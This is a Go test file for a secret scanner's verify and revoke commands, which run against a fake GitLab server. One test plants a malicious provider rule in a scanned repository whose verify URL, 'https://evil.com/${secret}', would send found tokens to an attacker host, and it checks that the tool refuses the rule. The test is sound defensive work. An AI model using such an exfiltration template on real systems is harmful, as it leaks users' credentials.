package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/leakguard/leakguard/testdata/gitrepo"
)

// fakeGitLab answers as GitLab does for tokens that it knows, and revokes them.
type fakeGitLab struct {
	*httptest.Server
	mu     sync.Mutex
	live   map[string]bool
	asked  map[string]int // by token
	config string         // a config file that has it asked instead of gitlab.com
}

func newFakeGitLab(t *testing.T, live ...string) *fakeGitLab {
	t.Helper()
	g := &fakeGitLab{live: map[string]bool{}, asked: map[string]int{}}
	for _, token := range live {
		g.live[token] = true
	}
	g.Server = httptest.NewServer(http.HandlerFunc(g.answer))
	t.Cleanup(g.Close)
	g.config = filepath.Join(t.TempDir(), "config.toml")
	text := fmt.Sprintf("[verify]\nendpoints = {\"gitlab.com\" = %q}\n", g.URL)
	if err := os.WriteFile(g.config, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return g
}

func (g *fakeGitLab) answer(w http.ResponseWriter, r *http.Request) {
	g.mu.Lock()
	defer g.mu.Unlock()
	token := r.Header.Get("PRIVATE-TOKEN")
	g.asked[token]++
	w.Header().Set("Content-Type", "application/json")
	switch {
	case !g.live[token]:
		w.WriteHeader(http.StatusUnauthorized)
		io.WriteString(w, `{"error": "invalid_token", "error_description": "Token was revoked. You have to re-authorize from the user."}`)
	case r.Method == http.MethodDelete:
		delete(g.live, token)
		w.WriteHeader(http.StatusNoContent)
	case r.URL.Path == "/api/v4/user":
		io.WriteString(w, `{"id": 42, "username": "ada", "bot": false, "is_admin": true}`)
	default:
		// An issuer that writes the token into its answer must not have us tell it.
		fmt.Fprintf(w, `{"id": 4, "name": %q, "scopes": ["api", %q], "user_id": 42, "active": true, "created_at": "2024-01-01T00:00:00Z", "expires_at": "2029-01-01"}`, token, token)
	}
}

// verdicts is what these tests read of a report with verdicts.
type verdicts struct {
	Complete bool `json:"complete"`
	Secrets  []struct {
		Fingerprint string `json:"fingerprint"`
		Rule        string `json:"rule"`
		Severity    string `json:"severity"`
		Verdict     struct {
			State    string `json:"state"`
			Reason   string `json:"reason"`
			Evidence string `json:"evidence"`
			Endpoint string `json:"endpoint"`
			Access   string `json:"access"`
			Identity struct {
				ID, Name, Kind string
			} `json:"identity"`
		} `json:"verdict"`
		Risks []struct{ OWASP string } `json:"risks"`
	} `json:"secrets"`
	Suppressed []finding `json:"suppressed"`
	Unused     []string  `json:"unusedSuppressions"`
	Coverage   []struct {
		Gaps []gap `json:"gaps"`
	} `json:"coverage"`
}

func readVerdicts(t *testing.T, stdout, stderr string) (v verdicts) {
	t.Helper()
	if err := json.Unmarshal([]byte(stdout), &v); err != nil {
		t.Fatalf("no JSON report: %v\n%s", err, stderr)
	}
	return v
}

// gitlabTokens are a live and a dead token, in two files of a repository.
func gitlabTokens(t *testing.T) (r *gitrepo.Repo, live, dead string) {
	r = repository(t)
	live, dead = expand(t, "glpat-${alnum:20}", 1), expand(t, "glpat-${alnum:20}", 2)
	r.Write("live.env", strings.Repeat("T="+live+"\n", 3)).Commit("one")
	r.Write("dead.env", "T="+dead+"\n").Commit("two")
	return r, live, dead
}

func TestScanVerify(t *testing.T) {
	r, live, dead := gitlabTokens(t)
	g := newFakeGitLab(t, live)
	audit := filepath.Join(t.TempDir(), "audit.jsonl")
	stdout, stderr, code := run(t, r.Dir, "scan", "--verify", "--config", g.config, "--audit", audit, "-r", "json")
	v := readVerdicts(t, stdout, stderr)
	if code != exitFound || len(v.Secrets) != 2 {
		t.Fatalf("exit code %d, %d secrets\n%s", code, len(v.Secrets), stderr)
	}
	first, second := v.Secrets[0], v.Secrets[1]
	if first.Verdict.State != "live" || first.Severity != "critical" || first.Verdict.Identity.Name != "ada" || first.Verdict.Identity.Kind != "person" || first.Verdict.Access != "admin" || first.Verdict.Evidence == "" {
		t.Errorf("the live one: %+v", first)
	}
	var risks []string
	for _, r := range first.Risks {
		risks = append(risks, r.OWASP)
	}
	if want := []string{"NHI5:2025", "NHI7:2025", "NHI10:2025"}; !slices.Equal(risks, want) {
		t.Errorf("risks %v, want %v: the .env file is one of variables", risks, want)
	}
	if second.Verdict.State != "dead" || second.Verdict.Endpoint != "GET https://gitlab.com/api/v4/personal_access_tokens/self" {
		t.Errorf("the dead one: %+v", second)
	}
	if g.asked[live] != 2 || g.asked[dead] != 1 {
		t.Errorf("questions: %d about the live one, want 2; %d about the dead one, want 1", g.asked[live], g.asked[dead])
	}
	record, err := os.ReadFile(audit)
	if err != nil {
		t.Fatal(err)
	}
	if n := bytes.Count(record, []byte("\n")); n != 3 || !bytes.Contains(record, []byte(first.Fingerprint)) {
		t.Errorf("%d lines of audit, want 3, with the fingerprint", n)
	}
	wantConcealed(t, "the report", stdout, live, dead)
	wantConcealed(t, "the record", string(record), live, dead)
	wantConcealed(t, "standard error", stderr, live, dead)
}

// TestVerifySecrecy looks for the secret in all formats of a report whose issuer
// echoes it.
func TestVerifySecrecy(t *testing.T) {
	r, live, dead := gitlabTokens(t)
	g := newFakeGitLab(t, live)
	for _, format := range formatNames() {
		stdout, stderr, _ := run(t, r.Dir, "scan", "--verify", "--config", g.config, "-r", format)
		wantConcealed(t, format, stdout+stderr, live, dead)
	}
}

func TestVerifyFailOn(t *testing.T) {
	r, live, dead := gitlabTokens(t)
	onlyDead := repository(t)
	onlyDead.Write("dead.env", "T="+dead+"\n").Commit("dead")
	unasked := repository(t)
	unasked.Write("a.env", withSecret(token(t, 3))).Commit("a token of GitHub, whose address leads nowhere here")
	g := newFakeGitLab(t, live)
	tests := []struct {
		name string
		dir  string
		args []string
		want int
	}{
		{"live, any", r.Dir, nil, exitFound},
		{"live, verified", r.Dir, []string{"--fail-on", "verified"}, exitFound},
		{"dead, any", onlyDead.Dir, nil, exitFound},
		{"dead, verified or unknown", onlyDead.Dir, []string{"--fail-on", "verified-or-unknown"}, exitClean},
		{"dead, verified", onlyDead.Dir, []string{"--fail-on", "verified"}, exitClean},
		{"not asked about, verified", unasked.Dir, []string{"--fail-on", "verified", "--verify-only", "gitlab-pat"}, exitClean},
		{"not asked about, verified or unknown", unasked.Dir, []string{"--fail-on", "verified-or-unknown", "--verify-only", "gitlab-pat"}, exitFound},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, stderr, code := run(t, tt.dir, append([]string{"scan", "--verify", "--config", g.config}, tt.args...)...)
			if code != tt.want {
				t.Errorf("exit code %d, want %d\n%s", code, tt.want, stderr)
			}
		})
	}
	_, stderr, code := run(t, r.Dir, "scan", "--fail-on", "verified")
	if code != exitUsage || !strings.Contains(stderr, "needs --verify") {
		t.Errorf("without --verify: exit code %d, want %d: %s", code, exitUsage, stderr)
	}
}

// TestVerifySuppressed reports a live secret although it is suppressed, unless
// the suppression says even-live.
func TestVerifySuppressed(t *testing.T) {
	for _, tt := range []struct {
		name, entry string
		secrets     int
	}{
		{"entry", "", 1},
		{"entry, even if live", " even-live", 0},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r, live, dead := gitlabTokens(t)
			g := newFakeGitLab(t, live)
			stdout, stderr, _ := run(t, r.Dir, "scan", "-r", "json")
			var ignore strings.Builder
			for _, s := range readVerdicts(t, stdout, stderr).Secrets {
				fmt.Fprintf(&ignore, "%s%s # gitlab-pat: of a test\n", s.Fingerprint, tt.entry)
			}
			file := filepath.Join(filepath.Dir(g.config), ".leakguardignore")
			if err := os.WriteFile(file, []byte(ignore.String()), 0o600); err != nil {
				t.Fatal(err)
			}
			stdout, stderr, _ = run(t, r.Dir, "scan", "--verify", "--config", g.config, "-r", "json")
			v := readVerdicts(t, stdout, stderr)
			if len(v.Secrets) != tt.secrets || len(v.Suppressed) != 2-tt.secrets {
				t.Errorf("%d secrets, %d suppressed; want %d, %d\n%s", len(v.Secrets), len(v.Suppressed), tt.secrets, 2-tt.secrets, masked(stdout, live, dead))
			}
			if tt.secrets == 1 && (v.Secrets[0].Verdict.State != "live" || !slices.ContainsFunc(v.Unused, func(s string) bool { return strings.Contains(s, "live") })) {
				t.Errorf("the live one is not reported, or the entry is not: %v", v.Unused)
			}
		})
	}
}

// TestVerifyConfigOfTheRepository sends nothing where a file says that merely lies
// in what is scanned.
func TestVerifyConfigOfTheRepository(t *testing.T) {
	r, live, _ := gitlabTokens(t)
	g := newFakeGitLab(t, live)
	provider := "id = 'evil'\nname = 'Evil'\n[[credential]]\nid = 'any'\nname = 'any'\nregex = '(glpat-.{20})'\nkeywords = ['glpat-']\nmatch = ['x']\nignore = ['y']\n" +
		"[[verify]]\ncredentials = ['any']\n[[verify.request]]\nurl = 'https://evil.com/${secret}'\nlive = 'status == 200'\n"
	own, err := os.ReadFile(g.config)
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct{ name, file, text string }{
		{"config", ".leakguard.toml", string(own)},
		{"provider", "rules.d/evil.toml", provider},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r.Write(tt.file, tt.text)
			defer os.Remove(filepath.Join(r.Dir, filepath.FromSlash(tt.file)))
			_, stderr, code := run(t, r.Dir, "scan", "--verify")
			if code != exitUsage || !strings.Contains(stderr, "--config") {
				t.Errorf("exit code %d, want %d: %s", code, exitUsage, stderr)
			}
			if _, stderr, code = run(t, r.Dir, "scan"); code != exitFound {
				t.Errorf("without --verify: exit code %d, want %d: %s", code, exitFound, stderr)
			}
		})
	}
	if len(g.asked) > 0 {
		t.Error("the server was asked")
	}
}

func TestVerifyReport(t *testing.T) {
	r, live, dead := gitlabTokens(t)
	r.Git("rm", "-q", "dead.env")
	r.Commit("three") // only history has the dead one now
	message := expand(t, "glpat-${alnum:20}", 3)
	r.Write("x", "x").Commit("uses " + message)
	r.Write("a.zip", zipOf(t, "in/it.env", "T="+expand(t, "glpat-${alnum:20}", 4)+"\n")).Commit("archive")
	report := filepath.Join(t.TempDir(), "r.json")
	if _, stderr, code := run(t, r.Dir, "scan", "-r", "json="+report); code != exitFound {
		t.Fatal(stderr)
	}
	g := newFakeGitLab(t, live, message)
	stdout, stderr, code := run(t, t.TempDir(), "verify", report, r.Dir, "--config", g.config, "-r", "json")
	v := readVerdicts(t, stdout, stderr)
	states := map[string]int{}
	for _, s := range v.Secrets {
		states[s.Verdict.State]++
	}
	if code != exitFound || !v.Complete || states["live"] != 2 || states["dead"] != 2 {
		t.Errorf("exit code %d, complete: %t, verdicts %v; want 1, true, 2 live and 2 dead\n%s%s", code, v.Complete, states, stderr, masked(stdout, live, dead, message))
	}
	wantConcealed(t, "the report", stdout, live, dead, message)
	t.Run("one rule", func(t *testing.T) {
		stdout, stderr, code := run(t, r.Dir, "verify", report, "--rule", "github-pat", "--config", g.config, "-r", "json")
		if v := readVerdicts(t, stdout, stderr); code != exitClean || len(v.Secrets) != 0 {
			t.Errorf("exit code %d, %d secrets; want none", code, len(v.Secrets))
		}
	})
	t.Run("gone", func(t *testing.T) {
		stdout, stderr, code := run(t, repository(t).Dir, "verify", report, "--config", g.config, "-r", "json")
		v := readVerdicts(t, stdout, stderr)
		gaps := v.Coverage[len(v.Coverage)-1].Gaps
		if code != exitIncomplete || v.Complete || len(gaps) != 4 || !strings.Contains(gaps[0].Why, "no longer where the report says") {
			t.Errorf("exit code %d, gaps %+v", code, gaps)
		}
	})
}

func TestVerifyReportErrors(t *testing.T) {
	dir := folder(t, map[string]string{"broken.json": "{", "other.json": `{"a": 1}`, "sarif.json": `{"version": "2.1.0", "runs": []}`})
	tests := []struct {
		args []string
		want string
	}{
		{[]string{"verify"}, "name a report, or with --rule"},
		{[]string{"verify", "gone.json"}, "gone.json"},
		{[]string{"verify", "broken.json"}, "broken.json: no JSON report of leakguard"},
		{[]string{"verify", "other.json"}, "schemaVersion"},
		{[]string{"verify", "sarif.json"}, "schemaVersion"},
		{[]string{"verify", "other.json", "--part", "a=b"}, "--part is for a secret on standard input"},
		{[]string{"verify", "--rule", "none"}, `no rule "none"`},
		{[]string{"verify", "--rule", "gitlab-pat", "--part", "x"}, "want NAME=VALUE"},
		{[]string{"verify", "--rule", "gitlab-pat"}, "standard input: want one secret"},
	}
	for _, tt := range tests {
		_, stderr, code := command{dir: dir, args: tt.args, stdin: strings.NewReader("")}.run(t)
		if code != exitUsage || !strings.Contains(stderr, tt.want) {
			t.Errorf("%v: exit code %d, %q; want %d, %q", tt.args, code, stderr, exitUsage, tt.want)
		}
	}
}

// TestVerifyGiven asks about a secret on standard input.
func TestVerifyGiven(t *testing.T) {
	live, dead := expand(t, "glpat-${alnum:20}", 1), expand(t, "glpat-${alnum:20}", 2)
	g := newFakeGitLab(t, live)
	for _, tt := range []struct {
		name, secret, state string
		want                int
	}{
		{"live", live, "live", exitFound},
		{"dead", dead, "dead", exitClean},
	} {
		t.Run(tt.name, func(t *testing.T) {
			stdout, stderr, code := command{dir: t.TempDir(), stdin: strings.NewReader(tt.secret + "\n"),
				args: []string{"verify", "--rule", "gitlab-pat", "--config", g.config, "-r", "json"}}.run(t)
			v := readVerdicts(t, stdout, stderr)
			if code != tt.want || len(v.Secrets) != 1 || v.Secrets[0].Verdict.State != tt.state {
				t.Errorf("exit code %d, want %d: %s%s", code, tt.want, stderr, masked(stdout, tt.secret))
			}
			wantConcealed(t, "the report", stdout+stderr, tt.secret)
		})
	}
	// An allowlist is for what is found; what is given is a secret.
	example := "AKIA" + "IOSFODNN7" + "EXAMPLE"
	stdout, stderr, _ := command{dir: t.TempDir(), stdin: strings.NewReader(example), args: []string{"verify", "--offline", "--rule", "aws-access-key-id", "-r", "json"}}.run(t)
	if v := readVerdicts(t, stdout, stderr); len(v.Secrets) != 1 || !strings.Contains(v.Secrets[0].Verdict.Reason, "documentation") {
		t.Errorf("AWS's example: %+v %s", v.Secrets, stderr)
	}
}

// TestRevoke revokes a token, but only when told to twice.
func TestRevoke(t *testing.T) {
	r, live, dead := gitlabTokens(t)
	g := newFakeGitLab(t, live)
	stdout, stderr, _ := run(t, r.Dir, "scan", "-r", "json", "--config", g.config, "--verify")
	fingerprint := readVerdicts(t, stdout, stderr).Secrets[0].Fingerprint
	tests := []struct {
		name, stdin string
		args        []string
		code        int
		want        string
		revoked     bool
	}{
		{"dry run", "", []string{"--dry-run"}, exitClean, "DELETE https://gitlab.com/api/v4/personal_access_tokens/self", false},
		{"nobody answers", "", nil, exitUsage, "--yes", false},
		{"no", "no\n", nil, exitUsage, "not confirmed", false},
		{"offline", "", []string{"--yes", "--offline"}, exitUsage, "--offline", false},
		{"yes", fingerprint[:9] + "\n", nil, exitClean, "Verified: it is dead", true},
		{"again", "", []string{"--yes"}, exitUsage, "it is not revoked", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			args := append([]string{"revoke", fingerprint, "--config", g.config}, tt.args...)
			stdout, stderr, code := command{dir: r.Dir, args: args, stdin: strings.NewReader(tt.stdin)}.run(t)
			if code != tt.code || !strings.Contains(stdout+stderr, tt.want) {
				t.Errorf("exit code %d, want %d, and %q in\n%s%s", code, tt.code, tt.want, masked(stdout, live), stderr)
			}
			if g.live[live] == tt.revoked {
				t.Errorf("revoked: %t, want %t", !g.live[live], tt.revoked)
			}
			wantConcealed(t, "the output", stdout+stderr, live, dead)
		})
	}
	for _, tt := range []struct{ name, fingerprint, want string }{
		{"no such secret", "lg1s-0000", "no secret with the fingerprint"},
	} {
		if _, stderr, code := run(t, r.Dir, "revoke", tt.fingerprint, "--config", g.config); code != exitUsage || !strings.Contains(stderr, tt.want) {
			t.Errorf("%s: exit code %d, %s", tt.name, code, stderr)
		}
	}
}
